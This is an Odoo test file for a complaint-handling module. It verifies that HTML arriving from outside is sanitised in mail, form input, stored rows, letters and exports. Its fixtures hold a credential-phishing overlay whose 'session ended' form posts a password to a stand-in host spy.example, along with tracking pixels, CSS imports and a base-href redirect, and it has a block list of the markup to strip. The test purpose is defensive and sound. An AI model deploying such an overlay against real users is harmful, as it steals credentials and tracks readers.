from markupsafe import Markup

from odoo.tests import tagged
from odoo.tools import SQL, mute_logger

from odoo.addons.mail.tools.discuss import Store

from ...models.outside_html import CleanedHtml, OutsideHtml
from ..common import ComplaintCommon

OVERLAY = (
    '<div class="modal d-block" style="position:fixed;top:0;left:0;width:100vw;'
    'height:100vh;background:#fff url(https://spy.example/c)">'
    '<h1>Your session ended</h1><form action="https://spy.example/in">'
    '<input name="password"></form>'
    '<img src="https://spy.example/1.gif" srcset="//spy.example/2.gif 2x">'
    "<p>My laptop broke.</p></div>"
)
MAIL = """\
From: Klant <klant@elders.example>
To: testklachten@test.example
Subject: =?utf-8?q?Laptop?=
Message-ID: <outside-{number}@elders.example>
{extra}MIME-Version: 1.0
Content-Type: text/html; charset="utf-8"

<html><head><style>@import url(https://spy.example/s.css);</style>
<base href="https://spy.example/"></head><body background="//spy.example/b">
{body}</body></html>
"""
BAD = ("position", "modal", "<form", "<input", "<img", "srcset", "<style", "url(")


@tagged("post_install", "-at_install", "klachten")
class TestOutsideWords(ComplaintCommon):
    """Words from outside cover nothing and call nobody, wherever they stand."""

    def _assert_harmless(self, words, says="My laptop broke."):
        words = str(words or "")
        self.assertIn(says, words)
        for bad in BAD:
            self.assertNotIn(bad, words)
        # in the language of whoever reads it
        self.assertRegex(words, r"\[\w+ \w+ spy\.example \w+ \w+\]")

    @mute_logger("odoo.addons.mail.models.mail_thread", "py.warnings")
    def _receive(self, number=1, extra="", body=OVERLAY):
        raw = MAIL.format(number=number, extra=extra, body=body).encode()
        known = self.env["helpdesk.ticket"].search([])
        self.env["mail.thread"].message_process("helpdesk.ticket", raw)
        return self.env["helpdesk.ticket"].search([]) - known

    def test_mail_that_comes_in_is_harmless_as_statement_and_in_the_chatter(self):
        case = self._receive()
        self._assert_harmless(case.statement)
        messages = case.message_ids.filtered(lambda m: m.message_type == "email")
        self.assertTrue(messages)
        for message in messages:
            self._assert_harmless(message.body)
        original = case.attachment_ids.filtered(lambda a: a.name.endswith(".eml"))
        self.assertIn(b"position:fixed", original.raw, "kept as it came in")

    def test_answer_to_a_case_is_harmless(self):
        case = self._receive()
        letter = case.letter_ids[:1]
        code = letter.message_code or letter.mail_id.message_id
        self.assertFalse(self._receive(2, f"In-Reply-To: {code}\n"))
        answers = case.message_ids.filtered(lambda m: "outside-2" in m.message_id)
        self.assertTrue(answers)
        self._assert_harmless(answers.body)

    def test_every_field_with_words_from_outside_is_cleaned(self):
        """Also those that a later model adds: no other HTML is stored by ours."""
        apart = {
            # made by us of parts that were cleaned
            ("complaint.letter", "body"),
            ("complaint.procedure.version", "differences"),
            # the organisation's own documents
            ("complaint.procedure.version", "definition"),
            ("complaint.procedure.version", "who_may"),
            ("complaint.procedure.version", "relations"),
            ("complaint.procedure.version", "glossary"),
        }
        for model in self.env.registry.values():
            for field in model._fields.values():
                if field.type != "html" or not field.store or model._abstract:
                    continue
                if field._modules != ("klachten_module",):
                    continue
                with self.subTest(field=f"{field}"):
                    if (model._name, field.name) not in apart:
                        self.assertIsInstance(field, OutsideHtml)

    def test_words_by_form_and_rpc_are_harmless(self):
        case = self._create_complaint(description=OVERLAY)
        self._assert_harmless(case.statement)
        self._walk_to(case, "acknowledgement")
        holder = case.user_id
        case.with_user(holder).write({"description": OVERLAY, "answer": OVERLAY})
        self._assert_harmless(case.description)
        self._assert_harmless(case.answer)
        note = self.env["complaint.note"].create(
            {"ticket_id": case.id, "body": OVERLAY}
        )
        self._assert_harmless(note.body)
        note.invalidate_recordset()
        self._assert_harmless(note.body)

    def test_plain_tickets_keep_what_the_host_keeps(self):
        words = '<p><img src="https://pictures.example/1.png">Hi</p>'
        plain = self._create_plain(description=words)
        self.assertIn("<img", plain.description)
        plain.description = words + "<p>more</p>"
        self.assertIn("<img", plain.description)

    def test_what_we_say_in_them_is_in_the_language_of_the_reader(self):
        """It was stored in that of the job that fetched the mail."""
        words = '<p><img src="https://pictures.example/1.png">Hi</p>'
        english = "[picture from pictures.example not loaded]"
        self.env["res.lang"]._activate_lang("nl_NL")
        for lang in ("nl_NL", "en_US"):
            case = self._create_complaint().with_context(lang=lang)
            note = case.env["complaint.note"].create(
                {"ticket_id": case.id, "body": words}
            )
            message = case.with_context(mail_notify_force_send=False).message_post(
                body=Markup(words), message_type="email", email_from="k@x.example"
            )
            for record in (note, message):
                self.env.flush_all()
                self.assertIn(english, self._stored(record, "body"))
                dutch = record.with_context(lang="nl_NL").body
                self.assertNotIn(english, dutch)
                self.assertIn("pictures.example", dutch)
                self.assertIn(english, record.with_context(lang="en_US").body)
                # read and stored again, and as it was stored before
                record.sudo().body = Markup(dutch)
                self.assertIn(english, record.with_context(lang="en_US").body)

    def test_letters_and_pages_load_nothing_from_elsewhere(self):
        case = self._create_complaint(description=OVERLAY)
        case.sudo().answer = OVERLAY
        self._walk_to(case, "customer")
        letter = self._answer_letter(case)
        self._assert_harmless(letter.answer)
        self.assertNotIn('src="https://spy', letter.body)
        self.assertNotIn("position", letter.body)
        self.assertNotIn('src="https://spy', letter.mail_id.body_html)

    def _stored(self, record, name):
        """What the database has in a column."""
        column, table = SQL.identifier(name), SQL.identifier(record._table)
        return self.env.execute_query(
            SQL("SELECT %s FROM %s WHERE id = %s", column, table, record.id)
        )[0][0]

    def _store(self, record, name, words):
        """As it was stored before words from outside were cleaned."""
        self.env.flush_all()
        self.env.cr.execute(
            SQL(
                "UPDATE %s SET %s = %s WHERE id = %s",
                SQL.identifier(record._table),
                SQL.identifier(name),
                words,
                record.id,
            )
        )
        self.env.invalidate_all()

    def _rows(self, case):
        """A row of this case in each model that keeps words from outside."""
        message = case.message_ids.filtered(lambda m: m.message_type == "email")[:1]
        known = {case._name: case, message._name: message}
        talk = {"kind": "phone", "reached": True, "heard": "<p>x</p>"}
        party = case.party_ids[:1]
        self.env["complaint.contact"]._log(
            [{"ticket_id": case.id, "party_id": party.id, **talk}]
        )
        values = {
            "complaint.note": {"body": "<p>x</p>"},
            "complaint.finding": {
                "ground_id": self.env["complaint.ground"].search([], limit=1).id
            },
            "complaint.verification": {"kind": "asked"},
        }
        for name, model in self.env.registry.items():
            kept = not model._abstract and not model._transient and model._auto
            if not kept or name == "mail.mail":  # its words are those of its message
                continue
            fields = [
                field.name
                for field in model._fields.values()
                if isinstance(field, CleanedHtml) and field.store
            ]
            if fields and name not in known:
                rows = self.env[name].search([("ticket_id", "=", case.id)], limit=1)
                vals = {"ticket_id": case.id, **values.get(name, {})}
                known[name] = rows or rows.create(vals)
            for field in fields:
                yield known[name], field

    def test_what_stood_there_before_is_harmless_and_stays(self):
        """P2: by reading, lists, exports and the chatter; nothing is rewritten."""
        case = self._receive()
        self._walk_to(case, "acknowledgement")
        places = list(self._rows(case))
        self.assertGreater(len(places), 11)
        for record, name in places:
            self._store(record, name, OVERLAY)
            with self.subTest(place=f"{record._name}.{name}"):
                self._assert_harmless(record[name])
                self._assert_harmless(record.read([name])[0][name])
                self._assert_harmless(record.web_read({name: {}})[0][name])
                self._assert_harmless(record.export_data([name])["datas"][0][0])
                self.env.flush_all()
                self.assertEqual(self._stored(record, name), OVERLAY)
        message = case.message_ids.filtered(lambda m: m.message_type == "email")[:1]
        (shown,) = Store().add(message).get_result()["mail.message"]
        self._assert_harmless(shown["body"])

    def test_letters_made_of_what_stood_there_before(self):
        case = self._create_complaint(description="<p>Words</p>")
        self._walk_to(case, "customer")
        for name in ("statement", "description", "answer"):
            self._store(case, name, OVERLAY)
        letters = self.env["complaint.letter"]
        template = self.env.ref("klachten_module.letter_answer")
        letter = letters._write_letters(case, template, "complainant", page="answer")
        self._assert_harmless(letter.answer)
        for words in (letter.body, letter.mail_id.body_html):
            self.assertNotIn('src="https://spy', str(words))
            for bad in ("position", "<form", "<input", "url("):
                self.assertNotIn(bad, str(words))

    def test_our_own_letters_keep_their_frame(self):
        case = self._receive()
        letter = case.letter_ids[:1]
        stored = self._stored(letter, "body")
        self.assertIn("style", stored)
        self.assertEqual(str(letter.body), stored)
        url = letter.get_base_url()
        framed = f'<table style="width:9px"><img src="{url}/logo.png"></table>'
        self._store(letter, "body", framed)
        self.assertEqual(str(letter.body), framed)

    def test_plain_messages_and_tickets_stay_as_they_are(self):
        plain = self._create_plain()
        message = plain.message_post(body="x", message_type="email")
        for record, name in ((plain, "description"), (message, "body")):
            self._store(record, name, OVERLAY)
            self.assertIn("position:fixed", str(record[name]))
